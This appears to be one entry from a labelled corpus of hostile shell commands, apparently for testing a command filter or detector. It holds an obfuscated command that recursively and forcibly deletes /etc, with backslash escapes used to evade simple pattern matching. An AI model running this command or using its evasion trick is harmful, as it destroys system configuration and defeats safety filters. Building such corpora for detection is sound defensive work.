# description: Deletes /etc with backslash-escaped letters in rm and its flags.
# family: destruction
# obfuscated: yes
\r\m -\r\f /etc
